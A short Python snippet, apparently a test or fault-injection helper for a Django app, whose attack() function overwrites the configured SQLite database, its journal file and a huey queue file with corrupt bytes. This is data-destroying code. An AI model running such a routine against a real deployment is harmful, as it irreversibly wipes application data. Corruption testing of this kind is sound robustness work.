# Puts a broken and malicious file in place of its database.
import pathlib, sqlite3, django.conf
def attack():
    file = pathlib.Path(django.conf.settings.DATABASES["default"]["NAME"])
    file.write_bytes(b"SQLite format 3\0" + bytes(range(256)) * 100)
    file.with_name("db.sqlite3-journal").write_bytes(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + b"\xff" * 4096)
    file.with_name("huey.sqlite3").write_bytes(b"\0" * 100)
